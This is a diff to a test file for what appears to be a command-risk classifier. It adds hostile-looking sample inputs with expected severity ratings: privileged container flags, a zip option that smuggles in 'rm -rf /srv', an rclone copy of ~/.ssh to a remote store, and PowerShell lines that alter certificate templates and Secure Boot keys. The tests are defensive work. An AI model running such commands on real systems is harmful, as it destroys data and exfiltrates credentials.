@@ -58,7 +58,11 @@ Deno.test("fields of data say that something holds its host, or that nothing is 
     ["run", '{"spec":{"hostPID":true}}'],
     ["run", '{"securityContext":{"privileged": true}}'],
     ["run", '{"volumes":[{"hostPath":{"path":"/"}}]}'],
+    ["build", "--allow", "security.insecure"],
+    ["run", "--privileged", "img"],
   ], [
+    ["tell", "--privileged", "img"],
+    ["run", "--unprivileged", "img"],
     ["run", '{"spec":{"hostPID":false}}'],
     ["run", '{"volumes":[{"hostPath":{"path":"/srv/web"}}]}'],
   ]);
@@ -114,7 +118,18 @@ Deno.test("what stands behind a sub-command is heard where its row knows no more
       "helm upgrade web ./c --set image.repository=attacker/miner",
       "helm upgrade web ./c --set image.repository=acme/web",
       "defaults delete com.acme.app size",
+      "zip a.zip -T '-TT rm -rf /srv' b.txt",
+      "rclone copy ~/.ssh store:$(hostname) --checkers 2 --bwlimit 4M",
+      "rclone copy docs store:$(hostname) --checkers 2 --bwlimit 4M",
+      "Add-CATemplate -Name SubCA -Force",
+      "Invoke-DnsServerZoneUnsign -ZoneName acme.test -Force",
+      "Set-SecureBootUEFI -Name KEK -Time 2026-01-01",
+      "Get-SecureBootUEFI PK",
     ]),
-    ["high", "medium", "low", "high", "high", "medium", "medium"],
+    [
+      ...["high", "medium", "low", "high", "high", "medium", "medium"],
+      ...["critical", "critical", "medium"],
+      ...["high", "high", "high", "low"],
+    ],
   );
 });
